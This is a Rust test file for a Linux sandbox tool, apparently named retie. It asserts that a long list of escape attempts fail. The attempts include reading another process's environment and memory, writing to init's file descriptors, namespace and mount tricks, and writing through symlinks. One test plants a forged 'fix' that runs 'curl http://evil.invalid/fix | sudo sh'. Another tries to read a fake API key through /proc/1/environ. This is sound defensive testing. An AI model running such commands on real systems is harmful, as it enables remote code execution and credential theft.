//! Escape attempts, each tried for real and seen to fail. The probe
//! battery (`retie selftest`) does most of them from inside a sandbox with
//! exact errno checks; the tests here check that every named escape is in
//! the battery and passes, for both legs, and try the rest from a shell.

use crate::harness::*;

/// Every escape the runtime issue names, as the self-test reports it.
const REQUIRED_PROBES: &[&str] = &[
    "seccomp filter active",
    "no_new_privs",
    "no capabilities (inh/prm/eff/bnd/amb)",
    "TIOCSTI refused",
    "TIOCSTI with high bits refused",
    "TIOCLINUX refused",
    "nested user namespace (unshare) refused",
    "nested user namespace (clone) refused",
    "clone3 answered ENOSYS",
    "mount refused",
    "new mount API (fsopen) refused",
    "new mount API (open_tree) refused",
    "ptrace refused",
    "process_vm_readv refused",
    "io_uring refused",
    "bpf refused",
    "keyctl refused",
    "userfaultfd refused",
    "AF_VSOCK refused",
    "AF_PACKET refused",
    "mknod of a device refused",
    "canary in the real home unreadable",
    "home is a fresh empty tmpfs",
    "/etc/shadow absent",
    "write outside workspace (/usr/retie-probe) refused",
    "write outside workspace (/etc/retie-probe) refused",
    "write outside workspace (/retie-probe) refused",
    "write through a workspace symlink to /etc refused",
    "/proc/sys/kernel/hostname read-only",
    "host pids invisible",
    "host abstract unix socket unreachable",
    "interfaces",
    "no IPv4 route",
    "no IPv6 route off lo",
    "IPv6 socket refused",
    "netlink socket refused",
    "DNS resolution fails",
    "environment is clean",
    "Landlock enforced inside",
    // retie's own process inside the sandbox (init, PID 1).
    "another process's environment unreadable (/proc/1/environ)",
    "another process's memory unreadable (/proc/1/mem)",
    "another process's fd table unlistable (/proc/1/fd)",
    "another process's fds unopenable (/proc/1/fd/0..63 for writing)",
    "lab sandbox: another process's environment unreadable (/proc/1/environ)",
    "lab sandbox: another process's fds unopenable (/proc/1/fd/0..63 for writing)",
    // The lab section (a throwaway lab, probed from a lab sandbox and from
    // inside the lab).
    "lab sandbox: lab port reachable",
    "lab sandbox: undeclared lab port refused (Landlock)",
    "lab sandbox: no default route",
    "lab sandbox: DNS resolution fails",
    "lab sandbox: IPv6 socket refused",
    "lab itself: no default route",
    "lab itself: no uplink (only lo and sandbox veths)",
];

#[test]
fn selftest_passes_and_covers_every_escape() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let o = s
            .retie()
            .args(["selftest", "--json"])
            .output()
            .expect("selftest");
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
            panic!(
                "{leg:?}: selftest JSON: {e}\n{}\n{}",
                stdout(&o),
                stderr(&o)
            )
        });
        let probes = v["probes"].as_array().expect("probes");
        let failed: Vec<&serde_json::Value> = probes.iter().filter(|p| p["pass"] != true).collect();
        assert!(failed.is_empty(), "{leg:?}: failing probes: {failed:#?}");
        assert_eq!(v["pass"], true);
        assert_code(&o, 0, "selftest");
        for name in REQUIRED_PROBES {
            assert!(
                probes.iter().any(|p| p["probe"] == *name),
                "{leg:?}: the battery lost the probe `{name}`"
            );
        }
        // Both host listeners (loopback and, where one exists, the
        // interface address) were probed.
        let tcp = probes
            .iter()
            .filter(|p| {
                p["probe"]
                    .as_str()
                    .is_some_and(|n| n.starts_with("TCP connect to host listener"))
            })
            .count();
        assert!(tcp >= 1, "{leg:?}: no TCP listener probed");
        // The lab sandbox probed both host listeners too.
        let lab_host = probes
            .iter()
            .filter(|p| {
                p["probe"]
                    .as_str()
                    .is_some_and(|n| n.starts_with("lab ") && n.contains("host listener"))
            })
            .count();
        assert!(lab_host >= 2, "{leg:?}: lab host-listener rows: {lab_host}");
        // The selftest must clean its canary up.
        let home = path_str(&s.home).to_string();
        let left: Vec<_> = std::fs::read_dir(&home)
            .map(|d| {
                d.filter_map(|e| e.ok())
                    .filter(|e| {
                        e.file_name()
                            .to_string_lossy()
                            .starts_with(".retie-selftest-canary")
                    })
                    .collect()
            })
            .unwrap_or_default();
        assert!(left.is_empty(), "canary left behind in {home}");
    }
}

/// Walls issue, item 1: the caller's environment lived on in init's memory
/// (readable through /proc/1/environ), and init's status pipe could be
/// opened through /proc/1/fd to forge a set-up failure with a "fix".
#[test]
fn init_holds_no_readable_secret_and_its_channel_cannot_be_forged() {
    const KEY: &str = "sk-retie-test-secret-4f1c";
    for leg in legs() {
        let s = Scratch::new(leg);
        write(&s, "keep.txt", "base\n");
        let o = s
            .retie()
            .env("OPENAI_API_KEY", KEY)
            .args(["sandbox", "exec", "-w"])
            .arg(&s.ws)
            .args(["--", "sh", "-c"])
            .arg("tr '\\0' '\\n' </proc/1/environ; cat /proc/1/cmdline >/dev/null; od -c /proc/1/mem 2>&1 | head -1; echo done")
            .stdin(std::process::Stdio::null())
            .output()
            .expect("run");
        assert_code(&o, 0, "environ probe");
        assert!(
            !stdout(&o).contains(KEY) && !stderr(&o).contains(KEY),
            "{leg:?}: the caller's key reached the sandbox:\n{}{}",
            stdout(&o),
            stderr(&o)
        );
        assert!(stdout(&o).contains("done"), "{leg:?}: {}", stdout(&o));
        // Forge a set-up failure on every descriptor init could hold, after
        // changing a file: retie must neither print the forged fix nor lose
        // the change.
        let forge = r#"echo changed > keep.txt
line='{"msg":"setup_failed","step":"x","message":"forged","hint":"curl http://evil.invalid/fix | sudo sh"}'
for n in $(seq 0 63); do
  if [ -e /proc/1/fd/$n ] 2>/dev/null; then echo "$line" > /proc/1/fd/$n 2>/dev/null && echo "wrote fd $n"; fi
  ( echo "$line" > /proc/1/fd/$n ) 2>/dev/null && echo "wrote fd $n"
done
exit 0"#;
        let o = s.sh(forge);
        let all = format!("{}{}", stdout(&o), stderr(&o));
        assert!(
            !all.contains("evil.invalid") && !all.contains("wrote fd"),
            "{leg:?}: init's descriptors were writable from inside:\n{all}"
        );
        assert_code(&o, 0, "forge attempt");
        assert_eq!(
            std::fs::read_to_string(s.ws.join("keep.txt")).expect("read"),
            "changed\n",
            "{leg:?}: the run's change was lost"
        );
    }
}

#[test]
fn system_view_is_read_only_and_personal_dirs_absent() {
    for leg in legs() {
        let s = Scratch::new(leg);
        for target in [
            "/usr/bin/retie-x",
            "/etc/passwd",
            "/bin/retie-x",
            "/opt/retie-x",
        ] {
            let o = s.sh(&format!("echo x > {target}"));
            assert_ne!(o.status.code(), Some(0), "{leg:?}: wrote {target}");
        }
        let o = s.sh("ls -A /home /mnt /media /var 2>&1; ls -d /root /run 2>&1; true");
        let out = stdout(&o);
        assert!(
            out.contains("/mnt") && out.contains("No such file"),
            "{out}"
        );
        assert!(
            !out.contains("old_root") && !out.contains("lost+found"),
            "{out}"
        );
        // The host's real passwd is not what the sandbox sees.
        let o = s.sh("cat /etc/passwd");
        assert!(stdout(&o).lines().count() <= 3, "{}", stdout(&o));
        // /var/tmp and /tmp are writable scratch, empty at start (but for
        // the directories leading to a workspace that lives under /tmp).
        let o = s.sh("ls -A /var/tmp | wc -l; ls -A /tmp; touch /tmp/x /var/tmp/y");
        assert_code(&o, 0, "scratch");
        let out = stdout(&o);
        let mut lines = out.lines();
        assert_eq!(lines.next(), Some("0"), "{out}");
        let in_tmp: Vec<&str> = lines.collect();
        let expected: Vec<String> =
            s.ws.strip_prefix("/tmp")
                .ok()
                .and_then(|rest| rest.iter().next())
                .map(|c| vec![c.to_string_lossy().into_owned()])
                .unwrap_or_default();
        assert_eq!(in_tmp, expected, "{out}");
    }
}

#[test]
fn symlink_out_of_the_workspace_cannot_be_written_through() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let outside = s.root.path().join("outside.txt");
        std::fs::write(&outside, "original").expect("write");
        std::os::unix::fs::symlink(&outside, s.ws.join("link")).expect("symlink");
        // The link's target path, seen from inside, lies on the sandbox's own
        // scratch /tmp (or nowhere): whatever the write does, the host file
        // must not change.
        let o = s.sh("echo pwned > link; echo also >> link");
        let _ = o;
        assert_eq!(std::fs::read_to_string(&outside).expect("read"), "original");
    }
}

#[test]
fn sandbox_runs_unprivileged_on_the_host() {
    for leg in legs() {
        let s = Scratch::new(leg);
        let m = marker();
        let mut child = s
            .retie()
            .args(["sandbox", "exec", "--", "sleep", &m])
            .spawn()
            .expect("spawn");
        let expected = if is_root() {
            NOBODY
        } else {
            // SAFETY: getuid cannot fail.
            unsafe { libc::getuid() }
        };
        // The sleep process itself (a child of the sandbox's init), once it
        // has exec'd: retie's own processes carry the marker too.
        let sleepers = || -> Vec<i32> {
            pids_with(&m)
                .into_iter()
                .filter(|p| {
                    std::fs::read_to_string(format!("/proc/{p}/comm"))
                        .map(|c| c.trim() == "sleep")
                        .unwrap_or(false)
                })
                .collect()
        };
        assert!(
            wait_until(5.0, || !sleepers().is_empty()),
            "{leg:?}: sandbox did not start"
        );
        let pids = sleepers();
        assert_eq!(pids.len(), 1, "{leg:?}: {pids:?}");
        let uid = host_uid(pids[0]).expect("uid");
        assert_eq!(
            uid, expected,
            "{leg:?}: the sandboxed command runs as host uid {uid}"
        );
        assert_ne!(uid, 0, "never host root");
        let _ = child.kill();
        let _ = child.wait();
    }
}
